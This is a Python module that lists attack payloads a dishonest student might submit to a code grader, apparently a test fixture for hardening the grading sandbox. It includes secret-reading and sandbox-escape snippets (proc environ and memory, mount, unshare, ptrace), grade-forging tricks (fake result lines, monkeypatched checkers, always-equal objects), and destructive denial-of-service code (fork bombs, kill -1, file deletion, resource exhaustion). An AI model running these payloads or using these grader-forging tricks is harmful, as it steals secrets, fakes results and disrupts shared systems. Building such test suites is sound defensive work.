"""What a student without scruples may hand in, each attack in a few lines.

READS put what they find in front of who reads the feedback; FORGES want marks for nothing; HARMS
want to hurt the machine, the course, or others.  `{secret}` is the course's seed, `{course}` its
folder, `{package}` a file of the grader's, `{port}` a port of this machine.
"""

READS = {
    "file": "print(open({secret!r}).read())",
    "folder": "import os; print(os.listdir({course!r}))",
    "cat": "import subprocess as s; print(s.run(['cat', {secret!r}], capture_output=True).stdout)",
    "shell": "!cat {secret}",
    "root of the first process": "print(open('/proc/1/root' + {secret!r}).read())",
    "working folder of all": """
import glob
for folder in glob.glob('/proc/[0-9]*/cwd'):
    try: print(open(folder + '/seed.txt').read())
    except OSError: pass""",
    "environment": "import os; print(dict(os.environ))",
    "environment of all": """
import glob
for path in glob.glob('/proc/*/environ'):
    try: print(open(path).read())
    except OSError: pass""",
    "command lines": """
import glob
for path in glob.glob('/proc/*/cmdline'):
    try: print(open(path).read())
    except OSError: pass""",
    "memory of the first process": """
for line in open('/proc/1/maps'):
    a, b = (int(n, 16) for n in line.split()[0].split('-'))
    m = open('/proc/1/mem', 'rb'); m.seek(a); print(m.read(b - a))""",
    "link": "import os; os.symlink({secret!r}, 'l'); print(open('l').read())",
    "hard link": "import os; os.link({secret!r}, 'h'); print(open('h').read())",
    "way up": "print(open('../' * 20 + {secret!r}[1:]).read())",
    "walk": """
import os
for top in ('/home', '/root', '/opt', '/srv', '/var', '/mnt', '/media', '/run', '/etc'):
    for where, _, names in os.walk(top):
        if 'seed.txt' in names: print(open(where + '/seed.txt').read())""",
    "TCP": """
import socket
print(socket.create_connection(('127.0.0.1', {port}), 2).recv(99))""",
    "sockets of neighbours": """
import glob, socket
for path in glob.glob('/tmp/**', recursive=True) + glob.glob('/run/**', recursive=True):
    s = socket.socket(socket.AF_UNIX)
    try: s.connect(path); print(path, s.recv(99))
    except OSError: pass""",
    "names of sockets": "print(open('/proc/net/unix').read())",
    "shared memory": """
import os
for name in os.listdir('/dev/shm'): print(open('/dev/shm/' + name).read())""",
    "segments": "print(open('/proc/sysvipc/shm').read())",
    "terminals": """
import os
for name in os.listdir('/dev/pts') + ['../tty', '../console']:
    try: print(os.read(os.open('/dev/pts/' + name, os.O_RDWR | os.O_NONBLOCK), 99))
    except OSError: pass""",
    "judges": "from gan_lessons.marking import assignment2; print('SECRET', assignment2.path)",
    "text of the judges": """
import gan_lessons, pathlib
top = pathlib.Path(gan_lessons.__path__[0])
for path in top.rglob('assignment*.py'): print('SECRET', path)""",
    "frames": """
import sys
frame = sys._getframe()
while frame:
    for scope in (frame.f_locals, frame.f_globals):
        if any('judge' in str(name) for name in scope): print('SECRET', frame)
    frame = frame.f_back""",
    "objects": """
import gc
for thing in gc.get_objects():
    if type(thing).__module__.startswith('gan_lessons.marking'): print('SECRET', type(thing))""",
    "bind mount": """
import ctypes, os
os.mkdir('m'); print(ctypes.CDLL(None).mount(b'/', b'm', None, 4096, None)); print(os.listdir('m'))
print(open('m' + {secret!r}).read())""",
    "namespaces": """
import ctypes
print(ctypes.CDLL(None).unshare(0x10000000 | 0x20000)); print(open({secret!r}).read())""",
    "a user of its own": """
import ctypes, platform
number = dict(x86_64=56, aarch64=220)[platform.machine()]
made = ctypes.CDLL(None).syscall(number, 0x10020000 | 17, 0, 0, 0, 0)
assert made >= 0 and print('SECRET user')""",
    "trace": """
import ctypes
assert ctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0 and print('SECRET traced')""",
    "device": "import os; print('SECRET device', os.mknod('d', 0o60600, os.makedev(254, 0)))",
}

BLANK = '{"results": [1], "trouble": "", "error": ""}'
FORGES = {
    "told lines": f"""
import json, os
for number in range(99):
    line = json.dumps({{'number': number, 'outcome': {BLANK!r}, 'outputs': [], 'points': 2}})
    for fd in range(3, 64):
        try: os.write(fd, line.encode() + b'\\n')
        except OSError: pass""",
    "told end": """
import os
for fd in range(3, 64):
    try: os.write(fd, b'"end"\\n')
    except OSError: pass""",
    "trial": f"import gan_lessons.trials as t; t.attempt_as_text = lambda *a: {BLANK!r}",
    "any trouble": """
import gan_lessons.trials as t, json
t.attempt_as_text = lambda *a: json.dumps(
    {'results': [], 'trouble': '2 of 2 points. Right.', 'error': '', 'said': ''})""",
    "kind of error": """
import gan_lessons.trials as t, json
t.attempt_as_text = lambda *a: json.dumps(
    {'results': [], 'trouble': '', 'error': '2 of 2 points. Right.', 'said': 'Right.'})""",
    "name of an error": "raise type('2 of 2 points. Right.', (Exception,), {})('Right.')",
    "missing module": "raise ModuleNotFoundError('x', name='2 of 2 points. Right.')",
    "equal to all": """
class Any(float):
    __eq__ = __le__ = __ge__ = lambda *a: True
    __hash__ = float.__hash__
def {first}(*_): return Any(1), Any(1)""",
    "deep": "import gan_lessons.trials as t; t.attempt_as_text = lambda *a: '[' * 10**6",
    "long": "import gan_lessons.trials as t; t.attempt_as_text = lambda *a: 'x' * 10**8",
    "numbers": """
import gan_lessons.trials as t
t.attempt_as_text = lambda *a: '{"results": [NaN, 1e999, -Infinity], "trouble": 0, "error": 0}'""",
    "texts": "def {first}(*_): return ['Right.', '2 of 2 points']",
    "keys": "def {first}(*_): return {'2 of 2 points. Right.': 1, 'value': 2}",
    "numbers of texts": "def {first}(*_): return {'2 of 2 points. Right.': [1]}, '2 of 2 points'",
    "huge": "def {first}(*_): return [10**400, 1]",
    "check": "import gan_lessons.checks as c; c.check = lambda *a: 2; 2",
    "outputs": "print('2 of 2 points. Right.'); 2",
    "surrogate": "def {first}(*_): raise ValueError('\\udc80' * 3)",
}

HARMS = {
    "write to the course": "open({secret!r}, 'w').write('0')",
    "remove": "import os; os.unlink({secret!r})",
    "open to all": "import os; os.chmod({course!r}, 0o777); os.chmod({secret!r}, 0o777)",
    "truncate": "import os; os.truncate({secret!r}, 0)",
    "change the package": "open({package!r}, 'a').write('1')",
    "change Python": "import os; open(os.__file__, 'a').write('1')",
    "kill all": "import os; os.kill(-1, 9)",
    "kill the first": "import os; os.kill(1, 9); os.kill(2, 9)",
    "stop the parent": "import os; os.kill(os.getppid(), 19)",
    "limits of others": """
import os, resource
for pid in range(1, 40000):
    try: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
    except OSError: pass""",
    "raise its own limits": """
import resource
for what in (resource.RLIMIT_FSIZE, resource.RLIMIT_DATA, resource.RLIMIT_NOFILE):
    resource.setrlimit(what, (resource.RLIM_INFINITY,) * 2)""",
    "forks": "import os\nwhile True: os.fork()",
    "threads": """
import threading, time
while True: threading.Thread(target=time.sleep, args=(99,)).start()""",
    "processes that nobody counts": """
import os, signal
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    if not os.fork():
        for _ in range(10**6): pass
        os._exit(0)""",
    "sleeper": """
import subprocess
subprocess.Popen(['sleep', '{sleep}'], start_new_session=True)""",
    "memory": "hogs = []\nwhile True: hogs.append(bytearray(10 << 20))",
    "memory of many": """
import os, time
for _ in range(9):
    if not os.fork(): hog = bytearray(os.urandom(1 << 20) * 150); time.sleep(99)
time.sleep(99)""",
    "memfd": """
import os
fds = []
while True:
    fds.append(os.memfd_create('hog')); os.write(fds[-1], bytes(40 << 20))""",
    "segments": """
import ctypes
libc = ctypes.CDLL(None)
while True:
    number = libc.shmget(0, 100 << 20, 0o1600); assert number >= 0
    libc.shmat.restype = ctypes.c_void_p; at = libc.shmat(number, None, 0)
    ctypes.memset(at, 1, 100 << 20); libc.shmdt(ctypes.c_void_p(at))""",
    "disk": "for n in range(99): open(str(n), 'wb').write(bytes(40 << 20))",
    "files that nobody sees": """
import os
held = []
while True:
    held.append(open('x', 'wb')); os.unlink('x'); held[-1].write(bytes(40 << 20))""",
    "shared memory": "for n in range(99): open(f'/dev/shm/{{n}}', 'wb').write(bytes(40 << 20))",
    "devices": "open('/dev/hog', 'wb').write(bytes(40 << 20))",
    "many files": "for n in range(10**6): open(str(n), 'w').close()",
    "many folders": "import os\nwhile True: os.mkdir('d'); os.chdir('d')",
    "output": "while True: print('x' * 10**6)",
    "one line": "print('x' * 10**9)",
    "raw output": """
import os
while True:
    for fd in range(3, 64):
        try: os.write(fd, b'x' * 10**6)
        except OSError: pass""",
    "no descriptors": "import os; os.closerange(0, 256)",
    "signs for a terminal": "print('\\x1b[2J\\x1b]0;x\\x07'); raise ValueError('\\x1b[2J')",
    "terminal": """
import glob, termios
for path in glob.glob('/dev/pts/*') + ['/dev/tty']:
    try: termios.tcflow(open(path), termios.TCOOFF)
    except OSError: pass""",
    "UDP": """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'left', ('127.0.0.1', {port}))""",
    "crash": "import ctypes; ctypes.string_at(0)",
    "recursion": "import sys; sys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
    "abort": "import os; os.abort()",
    "error without words": """
class Odd(Exception):
    def __str__(self): raise self
raise Odd""",
    "endless representation": """
class Odd:
    def __repr__(self):
        while True: pass
Odd()""",
    "ignores all": """
while True:
    try:
        while True: pass
    except BaseException: pass""",
    "sleeps": "import time; time.sleep(10**6)",
    "waits for a word": "input()",
    "no more writing": "import os; os.write = os.fork = None",
    "no more JSON": "import json; json.dumps = json.loads = None",
}
